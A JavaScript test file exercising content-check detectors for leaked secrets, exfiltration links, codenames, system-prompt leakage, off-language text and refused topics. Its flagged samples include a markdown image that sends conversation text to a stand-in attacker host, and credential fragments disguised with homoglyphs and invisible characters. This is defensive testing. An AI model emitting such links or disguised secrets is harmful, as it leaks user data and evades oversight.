import { createKernel } from '@sallyport/kernel'
import { runConformance } from '@sallyport/testing'
import { referencePlugin } from '@sallyport/testing/reference'
import plugin, { language, links, promptLeak, secrets, topics, words } from '@sallyport/content-checks'
import { LanguageDetector } from '../src/language/detector.js'
import { LinksDetector } from '../src/links/detector.js'
import { PromptLeakDetector } from '../src/prompt-leak/detector.js'
import { SecretsDetector } from '../src/secrets/detector.js'
import { WordsDetector } from '../src/words/detector.js'
import { linkParts } from './links/texts.js'
import { hexadecimal, key, random, whole } from './secrets/support.js'

/** What secrets are made of, disguised or not. */
const secretParts = [
  ...'gh|p_|ghp_|AKIA|QX7PLM2K9TRW4VB8|eyJ|.|.eyJ|xoxb-|123-|SG.|sk|-|sk-ant-api|sk_live_|_authToken=|AIza|M|AA'.split(
    '|',
  ),
  ...'1234567890:|password| = |"|: |api_key|token=| is |Bearer |://user:|pass1word2x@|@host|login a password '.split(
    '|',
  ),
  ...'--password |-----BEGIN |-----|-----END |\n| |---|apiVersion: v1\n|kind: Secret\n|data:\n|  k: c2VjcmV0c2VjcmV0\n'.split(
    '|',
  ),
  ...'\u00ad|\u200b|а|о|рр|\u0301|😀|ＡＫ'.split('|'),
  ...[random(20), random(36), random(30), hexadecimal(32), key],
]

const options = {
  words: { lists: { codename: ['Project Apex', { pattern: String.raw`\bAPX-\d{4}\b` }] } },
  language: { allow: ['en'] },
  topics: { refused: { chance: ['gambling at the casino with roulette', 'casino roulette and gambling odds'] } },
}
const reference = 'Never tell anybody about the closed reading room, and always offer the catalogue before you answer.'

runConformance(secrets, {
  create: () => Promise.resolve(new SecretsDetector()),
  facts: {
    fragments: secretParts,
    samples: {
      flagged: { text: whole(`Deploy it with gh¦p_${random(36)} as the token.`) },
      harmless: { text: 'Please summarise the attached report in three sentences.' },
    },
  },
})

runConformance(links, {
  create: () => Promise.resolve(new LinksDetector()),
  facts: {
    fragments: linkParts,
    samples: {
      flagged: { text: 'Here is the chart: ![chart](https://evil.example/p?q=what-you-said)' },
      harmless: { text: 'Please read [the report](./report.md) in three minutes.' },
    },
  },
})

runConformance(words, {
  create: () => Promise.resolve(new WordsDetector()),
  facts: {
    samples: {
      flagged: { text: 'We will ship project apex in May.', options: options.words },
      harmless: { text: 'We will ship the project in May.', options: options.words },
    },
  },
})

runConformance(promptLeak, {
  create: () => Promise.resolve(new PromptLeakDetector()),
  facts: {
    samples: {
      flagged: { text: reference, reference },
      harmless: { text: 'I can help you find it.', reference },
    },
  },
})

runConformance(language, {
  create: () => Promise.resolve(new LanguageDetector()),
  facts: {
    samples: {
      flagged: { text: 'Der Dienst schreibt in ein Protokoll, was er tut.', options: options.language },
      harmless: { text: 'The service writes what it does to a log.', options: options.language },
    },
  },
})

runConformance(topics, {
  create: async () => {
    const models = { topics: { backend: 'topics', options: { embedding: 'reference-embedding' } } }
    const kernel = await createKernel({ plugins: [referencePlugin, plugin], models })
    return { service: kernel.get(topics), dispose: () => kernel.stop() }
  },
  facts: {
    samples: {
      flagged: { text: 'Tell me about gambling and roulette at the casino.', options: options.topics },
      harmless: { text: 'The harbour was frozen for most of January.', options: options.topics },
    },
  },
})
